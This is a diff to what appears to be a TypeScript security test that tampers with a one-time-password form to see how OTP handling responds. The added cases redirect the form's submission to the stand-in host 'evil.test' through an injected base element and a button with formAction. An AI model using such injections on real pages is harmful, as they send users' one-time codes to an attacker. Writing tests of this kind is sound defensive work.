@@ -58,6 +58,14 @@ const changes: [name: string, script: string, ifBeforeAsked: string, ifBeforeRel
         'its form is aimed elsewhere, and then rendered anew',
         `otp.form.action = 'https://evil.test/'; otp.form.replaceWith(otp.form.cloneNode(true))`,
       ],
+      [
+        'its form sends elsewhere by another base',
+        `otp.form.before(Object.assign(document.createElement('base'), { href: 'https://evil.test/' }))`,
+      ],
+      [
+        'a button of its form sends elsewhere',
+        `otp.form.append(Object.assign(document.createElement('button'), { formAction: 'https://evil.test/' }))`,
+      ],
       ['moved on the page', `otp.style.cssText = 'position: fixed; left: 600px; top: 500px'`],
       [
         'pushed down by what comes above it',
